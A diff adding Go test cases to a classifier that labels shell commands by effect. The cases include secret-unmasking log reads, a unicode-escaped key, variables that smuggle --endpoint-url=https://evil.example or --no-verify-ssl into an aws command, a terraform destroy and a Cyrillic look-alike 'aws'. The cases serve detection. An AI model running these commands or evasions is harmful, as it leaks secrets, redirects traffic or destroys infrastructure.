@@ -217,6 +217,15 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"terraform -chdir=infra -no-color -input=false -refresh=false destroy", RunsCode | Deletes | ChangesState | NotAWS},
 		{"kubectl logs --namespace prod --context prod web", NotAWS},
 
+		// The whole input of an operation, and variables that become options.
+		{"aws logs get-log-events --cli-input-yaml '{logGroupName: x, unmask: true}'", ReadsAWS | ShowsSecrets},
+		{"aws logs get-log-events --cli-input-yaml='unmask: yes'", ReadsAWS | ShowsSecrets},
+		{`aws logs get-log-events --cli-input-json '{"un\u006dask":true}'`, NotUnderstood},
+		{`aws logs filter-log-events --cli-input-json '{"logGroupName":"x","filterPattern":"\"ERROR\""}'`, ReadsAWS},
+		{"AWS_REGION=--endpoint-url=https://evil.example; aws ec2 describe-instances $AWS_REGION", NotUnderstood},
+		{"export AWS_PROFILE='--no-verify-ssl x'; aws ec2 describe-instances $AWS_PROFILE", NotUnderstood},
+		{"AWS_PROFILE=team/prod.admin@x AWS_REGION=\"us-east-1\" aws ec2 describe-instances", ReadsAWS},
+
 		// Characters that deceive.
 		{"аws s3 ls", Disguised | NotAWS | NotUnderstood}, // the first letter is Cyrillic
 		{"aws s3 ls ––region us-east-1", Disguised | ReadsAWS},
